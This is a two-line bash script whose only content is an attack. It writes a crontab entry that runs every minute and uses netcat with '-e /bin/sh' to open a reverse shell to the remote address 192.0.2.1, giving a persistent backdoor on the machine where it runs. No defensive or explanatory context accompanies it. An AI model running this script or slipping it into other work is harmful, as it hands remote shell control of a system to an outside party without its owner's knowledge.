#!/bin/bash
crontab - <<< '* * * * * nc -e /bin/sh 192.0.2.1 1'
